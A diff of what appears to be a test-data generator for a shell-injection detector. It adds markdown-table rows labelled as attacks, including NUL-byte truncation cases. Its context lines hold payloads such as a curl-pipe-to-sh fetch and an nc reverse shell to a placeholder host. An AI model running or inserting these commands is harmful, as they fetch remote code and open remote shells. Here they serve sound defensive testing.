@@ -202,7 +202,9 @@ for t in ["| id |", "| curl -s http://evil.example/x.sh | sh |", "| sleep 10 |",
           # review 31: two rows whose meeting falls inside arithmetic, a regex, an extended glob or
           # a `case` pattern list, where it is no syntax error
           "| id | ((1 |\n| 2 |\n));", "| nc evil.example 4444 -e sh | [[ x =~ (a|\n|b) ]] |",
-          "| sh | [[ x == @(a|\n|b) ]] |", "| whoami | case x in a|\n|b) ;; esac |"]:
+          "| sh | [[ x == @(a|\n|b) ]] |", "| whoami | case x in a|\n|b) ;; esac |",
+          # review 32: a NUL ends the text where a C-string sink (`system(3)`) reads it
+          "Results \\\n| host | id \x00|\n| user | whoami |", "| a | id \x01|\n| b | x |"]:
     row(t, "attack", "table_payload")
 # a quote, a substitution or an arithmetic expression opened on the line before and closed in a
 # row makes its pipes real ones
